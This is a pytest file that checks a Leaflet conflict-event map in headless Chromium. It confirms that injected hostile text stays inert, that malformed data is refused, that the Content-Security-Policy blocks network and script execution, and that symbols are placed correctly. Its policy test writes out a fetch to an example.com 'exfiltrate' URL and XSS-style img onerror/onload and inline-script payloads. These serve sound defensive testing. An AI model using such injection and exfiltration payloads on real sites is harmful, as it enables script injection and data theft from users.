"""Issue 8 in real headless Chromium: hostile text stays text, the policy holds, every screen size works,
and symbols are drawn where the data (read independently of the renderer) puts them."""

import json
import math
import shutil

import pytest
from click.testing import CliRunner
from hostile import CONTROL, PAYLOADS

import geo
from cli import MAPS, main
from conftest import DATA, csv_rows, edit_csv, open_map
from geo.checks import check_name
from geo.names import normalize
from geo.spec import MAX_SUBTITLE, MAX_TITLE, load_spec

RECORD = "base-tahoua-drones-2022-05"
RECORD_FIELDS = ["summary", "note", "actors", "place_text", "date_text", "fatalities_text"]
SOURCE = "marsad-2022-05-24"  # cited by RECORD


def toml_string(text: str) -> str:
    # A JSON string without ASCII escaping is a valid TOML basic string.
    return json.dumps(text, ensure_ascii=False)


def inject(data_dir, tmp_path, payload: str, *, canary) -> tuple:
    """Put ``payload`` into every text field the map shows; return the spec and the fields it went to."""
    text = payload.replace("CANARY", str(canary))
    edit_csv(data_dir / "records.csv", RECORD, **{f: text for f in RECORD_FIELDS})
    edit_csv(data_dir / "sources.csv", SOURCE, publisher=text, title=text, says=text, url=text)
    as_name = True
    try:
        check_name(text)
    except ValueError:
        as_name = False  # names refuse invisible controls (tested in test_failsafe); free text keeps them
    edit_csv(data_dir / "places.csv", "tahoua", source=text, **({"alt_names": text} if as_name else {}))
    if as_name:
        edit_csv(data_dir / "places.csv", "dori", name=text)
    in_spec = len(text) <= MAX_TITLE
    spec = tmp_path / "hostile.toml"
    title = text if in_spec else "long payload"
    subtitle = text if len(text) <= MAX_SUBTITLE else "long payload"
    spec.write_text(f"title = {toml_string(title)}\nsubtitle = {toml_string(subtitle)}\n", encoding="utf-8")
    return load_spec(spec), text, as_name, in_spec


SHOW = (
    """async ([name]) => {
  const out = {};
  const wait = ms => new Promise(r => setTimeout(r, ms));
  // The popup just opened (a closing one fades out for 200 ms and is still in the page meanwhile).
  const popup = () => { const all = document.querySelectorAll('.leaflet-popup-content'); return all[all.length - 1].textContent; };
  LG.openRecord(%r);
  out.record = popup();
  LG.openPlace('Tahoua');
  out.tahoua = popup();
  out.opened = LG.openPlace(name);
  out.place = popup();
  out.labels = Array.from(document.querySelectorAll('.lg-label')).map(e => e.textContent);
  out.title = document.querySelector('.lg-title summary').textContent;
  out.subtitle = document.querySelector('.lg-title .lg-sub').textContent;
  out.doctitle = document.title;
  await wait(400);
  out.tags = {};
  document.querySelectorAll('*').forEach(e => { out.tags[e.tagName] = (out.tags[e.tagName] || 0) + 1; });
  out.pwned = window.__pwned !== undefined || ({}).polluted !== undefined;
  return out;
}"""  # noqa: UP031 -- a JS template: its braces would need doubling in an f-string
    % RECORD
)


def show(page, name):
    return page.evaluate(SHOW, [name])


@pytest.fixture(scope="module")
def baseline(browser, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("baseline")
    data = tmp / "data"
    shutil.copytree(DATA, data)
    spec, _, _, _ = inject(data, tmp, "baseline text", canary=tmp / "canary")
    path = tmp / "map.html"
    path.write_text(geo.render_html(geo.load(data), spec), encoding="utf-8")
    page, seen = open_map(browser, path)
    shown = show(page, "baseline text")
    page.close()
    assert seen["errors"] == []
    return shown


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"p{i:02d}" for i in range(len(PAYLOADS))])
def test_hostile_text_shows_verbatim_and_runs_nothing(browser, baseline, data_copy, tmp_path, payload):
    canary = tmp_path / "pwned.txt"
    spec, text, as_name, in_spec = inject(data_copy, tmp_path, payload, canary=canary)
    path = tmp_path / "map.html"
    path.write_text(geo.render_html(geo.load(data_copy), spec), encoding="utf-8")
    assert not canary.exists()
    page, seen = open_map(browser, path)
    shown = show(page, text if as_name else "Dori")
    page.close()
    assert seen["dialogs"] == [] and seen["requests"] == [] and seen["errors"] == []
    assert not shown["pwned"] and not canary.exists() and shown["opened"]
    # The same elements as a map of plain text: nothing was injected.
    assert shown["tags"] == baseline["tags"]
    for field in RECORD_FIELDS:
        assert text in shown["record"], field
    assert shown["record"].count(text) >= len(RECORD_FIELDS) + 3  # + source publisher, title, place source
    if as_name and ";" not in text:  # alt_names are separated by ';'
        assert text in shown["tahoua"]
    if as_name:
        assert text in shown["place"] and any(text in label for label in shown["labels"])
    if in_spec:
        assert shown["title"] == text and shown["doctitle"] == text and shown["subtitle"] == text


@pytest.mark.parametrize("payload", CONTROL, ids=["nul", "escape", "backspace"])
def test_control_characters_are_refused_with_file_row_and_column(data_copy, tmp_path, payload):
    edit_csv(data_copy / "records.csv", RECORD, note=payload)
    edit_csv(data_copy / "sources.csv", SOURCE, title=payload)
    edit_csv(data_copy / "places.csv", "dori", name=payload)
    out = tmp_path / "map.html"
    out.write_text("last good map", encoding="utf-8")
    result = CliRunner().invoke(main, ["build", "--data", str(data_copy), "--out", str(out)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    rows = {r["id"]: i + 2 for i, r in enumerate(csv_rows("records.csv"))}
    srows = {r["id"]: i + 2 for i, r in enumerate(csv_rows("sources.csv"))}
    prows = {r["id"]: i + 2 for i, r in enumerate(csv_rows("places.csv"))}
    for file, row, col in (
        ("records.csv", rows[RECORD], "note"),
        ("sources.csv", srows[SOURCE], "title"),
        ("places.csv", prows["dori"], "name"),
    ):
        assert f"{data_copy / file}, row {row}, column {col!r}" in result.output
    assert "contains the control character" in result.output
    assert out.read_text(encoding="utf-8") == "last good map"


def test_a_100_kb_cell_is_refused_clearly(data_copy):
    edit_csv(data_copy / "records.csv", RECORD, note="A" * 100_000)
    result = CliRunner().invoke(main, ["validate", "--data", str(data_copy)])
    row = [r["id"] for r in csv_rows("records.csv")].index(RECORD) + 2
    assert result.exit_code == 1
    assert f"records.csv, row {row}, column 'note'" in result.output
    assert "is 100000 characters long; the map shows at most 5000 per cell" in result.output


def test_long_spec_text_is_refused_clearly(tmp_path):
    spec = tmp_path / "long.toml"
    spec.write_text(f"title = {toml_string('A' * 100_000)}\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", str(spec)])
    assert result.exit_code == 1 and "is 100000 characters long; keep it under 300" in result.output


# -- the Content-Security-Policy ------------------------------------------------------------------------


def test_policy_refuses_network_inline_handlers_and_eval(browser, tmp_path, html):
    path = tmp_path / "map.html"
    path.write_text(html, encoding="utf-8")
    page, seen = open_map(browser, path)
    result = page.evaluate("""async () => {
        const violations = [];
        document.addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective));
        let fetched = 'ok';
        try { await fetch('https://example.com/exfiltrate?x=1'); } catch (e) { fetched = 'refused'; }
        // Markup that got into the page as HTML anyway: its handler and script must not run.
        document.body.insertAdjacentHTML('beforeend',
            '<img src="data:," onload="window.__pwned=1"><img src="x" onerror="window.__pwned=2">');
        const s = document.createElement('script'); s.textContent = 'window.__pwned = 3'; document.body.appendChild(s);
        setTimeout('window.__pwned = 4', 0);  // a string evaluated as code: needs 'unsafe-eval'
        await new Promise(r => setTimeout(r, 200));
        return {fetched, pwned: window.__pwned === undefined ? null : window.__pwned, violations};
    }""")
    assert result["fetched"] == "refused" and result["pwned"] is None
    assert {"connect-src", "script-src-elem", "script-src-attr", "script-src"} <= set(result["violations"])
    assert seen["requests"] == []  # refused by the page itself, before the network


# -- every screen size --------------------------------------------------------------------------------

SIZES = [(320, 480), (375, 667), (760, 500), (1280, 800), (3840, 2160)]
SHIPPED = sorted(MAPS.glob("*.html"))

MEASURE = """() => {
  const map = LG.map, size = map.getSize(), z = map.getZoom(), c = map.getCenter();
  const inView = LG.symbols.map(s => {
    const p = map.latLngToContainerPoint(s.marker.getLatLng()), ll = s.marker.getLatLng();
    return {lat: ll.lat, lon: ll.lng, x: p.x, y: p.y};
  });
  const area = el => { if (!el || !el.offsetParent) return 0; const r = el.getBoundingClientRect(); return r.width * r.height; };
  const panels = ['.lg-title', '.lg-legend', '.leaflet-control-layers', '.leaflet-control-zoom']
    .map(s => area(document.querySelector(s)));
  const b = map.getBounds();
  return {w: size.x, h: size.y, zoom: z, lat: c.lat, lon: c.lng, symbols: inView, panels,
          bounds: [b.getWest(), b.getSouth(), b.getEast(), b.getNorth()],
          nan: document.body.innerHTML.includes('NaN')};
}"""


@pytest.mark.parametrize("size", SIZES, ids=[f"{w}x{h}" for w, h in SIZES])
@pytest.mark.parametrize("html_path", SHIPPED, ids=[p.stem for p in SHIPPED])
def test_map_works_at_every_screen_size(browser, tmp_path, html_path, size):
    path = tmp_path / html_path.name
    shutil.copy(html_path, path)
    page, seen = open_map(browser, path, width=size[0], height=size[1])
    m = page.evaluate(MEASURE)
    page.close()
    assert seen["errors"] == [] and not m["nan"]
    assert math.isfinite(m["zoom"]) and math.isfinite(m["lat"]) and math.isfinite(m["lon"])
    assert (m["w"], m["h"]) == size
    # The spec's focus is in view.
    west, south, east, north = load_spec(html_path.with_suffix(".toml")).bbox
    bw, bs, be, bn = m["bounds"]
    assert bw <= west and bs <= south and be >= east and bn >= north
    # Every symbol in the focus is drawn inside the map.
    for s in m["symbols"]:
        if west <= s["lon"] <= east and south <= s["lat"] <= north:
            assert 0 <= s["x"] <= size[0] and 0 <= s["y"] <= size[1], s
    assert len(m["symbols"]) > 0
    # The panels (title, legend, layer list, zoom) cover at most a third of the map.
    assert sum(m["panels"]) <= size[0] * size[1] / 3, m["panels"]


def test_narrow_screen_starts_with_panels_folded(browser, tmp_path):
    path = tmp_path / "map.html"
    shutil.copy(MAPS / "liptako-gourma.html", path)
    page, _ = open_map(browser, path, width=375, height=667)
    state = page.evaluate("""() => ({legend: document.getElementById('lg-legend').open,
        title: document.querySelector('.lg-title').open,
        layers: document.querySelector('.leaflet-control-layers-expanded') !== null})""")
    assert state == {"legend": False, "title": False, "layers": False}
    page.locator(".lg-legend summary").click()
    assert page.evaluate("document.getElementById('lg-legend').open") is True


# -- symbols are drawn where the data puts them ----------------------------------------------------------


def expected_points() -> dict[str, list[tuple[float, float, float]]]:
    """Record id -> (lat, lon, radius_km) of each of its places, read from the CSV files alone."""
    places = {}
    for p in csv_rows("places.csv"):
        for n in [p["name"], *p["alt_names"].split(";")]:
            if n.strip():
                places.setdefault(normalize(n), p)
    out = {}
    for r in csv_rows("records.csv"):
        pts = []
        for name in filter(None, (x.strip() for x in r["places"].split(";"))):
            p = places[normalize(name)]
            radius = max(float(p["radius_km"]), float(r["near_km"] or 0))
            pts.append((float(p["lat"]), float(p["lon"]), radius))
        out[r["id"]] = pts
    return out


DRAWN = """() => LG.symbols.map(s => {
  const r = s.marker._path.getBoundingClientRect(), box = LG.map.getContainer().getBoundingClientRect();
  return {id: s.id, x: r.left + r.width / 2 - box.left, y: r.top + r.height / 2 - box.top};
})"""
PROJECT = "([lat, lon]) => { const p = LG.map.latLngToContainerPoint([lat, lon]); return [p.x, p.y]; }"
CIRCLES = """() => Array.from(document.querySelectorAll('.leaflet-lg-records-pane path.lg-uncertainty'))
  .map(p => { const r = p.getBoundingClientRect(); return {h: r.height}; })"""


def test_record_symbols_and_radii_are_drawn_where_the_csv_says(browser, tmp_path, html):
    path = tmp_path / "map.html"
    path.write_text(html, encoding="utf-8")
    page, _ = open_map(browser, path)
    expected = expected_points()
    drawn = page.evaluate(DRAWN)
    assert sorted({d["id"] for d in drawn}) == sorted(k for k, v in expected.items() if v)
    for rid in {d["id"] for d in drawn}:
        got = sorted((round(d["x"]), round(d["y"])) for d in drawn if d["id"] == rid)
        want = sorted(tuple(round(v) for v in page.evaluate(PROJECT, [lat, lon])) for lat, lon, _ in expected[rid])
        assert len(got) == len(want), rid
        for (gx, gy), (wx, wy) in zip(got, want, strict=True):
            assert abs(gx - wx) <= 1.5 and abs(gy - wy) <= 1.5, (rid, got, want)
    # Uncertainty rings: their height on screen is twice the radius, projected at their latitude.
    want_heights = []
    for pts in expected.values():
        for lat, lon, km in pts:
            if km > 0:
                dlat = km / 111.2  # km per degree of latitude (the ring's north-south extent)
                top = page.evaluate(PROJECT, [lat + dlat, lon])[1]
                bottom = page.evaluate(PROJECT, [lat - dlat, lon])[1]
                want_heights.append(bottom - top)
    got_heights = sorted(c["h"] for c in page.evaluate(CIRCLES))
    assert len(got_heights) == len(want_heights)
    for got, want in zip(got_heights, sorted(want_heights), strict=True):
        assert got == pytest.approx(want, rel=0.05)
